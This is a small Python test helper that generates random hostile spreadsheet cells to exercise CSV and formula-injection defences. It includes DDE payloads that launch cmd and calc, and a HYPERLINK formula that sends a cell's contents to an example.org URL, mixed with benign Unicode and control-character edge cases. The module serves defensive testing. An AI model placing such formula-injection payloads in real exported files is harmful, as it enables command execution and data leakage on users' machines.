"""Cells that mean harm, and cells that no spreadsheet likes, drawn by lot."""

import random

LEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    " =",
    "\u3000＝",
    "\x00=",
    "\x0b+",
    "\ufeff@",
    "",
)
HARM = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org/?"&A1,"点这里")', "SUM(A1:A9)", "2026", "关于修路的建议",
    'DDE("cmd";"/C calc";"!A0")', "IMPORTXML(A1)", "-2+3+cmd", '"引号"', "逗，号,逗号", "两\n行", "两\r\n行",
    "_x0041_",
    "<b>&amp;", "]]>", "𠮷野家", "\x1b[31m", "\ud800", "末尾空格 ", "0001", "1e5", "true", "",
)  # fmt: skip


def hostile_cells(number: int, lot: random.Random) -> list[str]:
    """As many cells, each a lead with something behind it."""
    return [f"{lot.choice(LEADS)}{lot.choice(HARM)}{lot.choice(('', lot.choice(HARM)))}" for _ in range(number)]
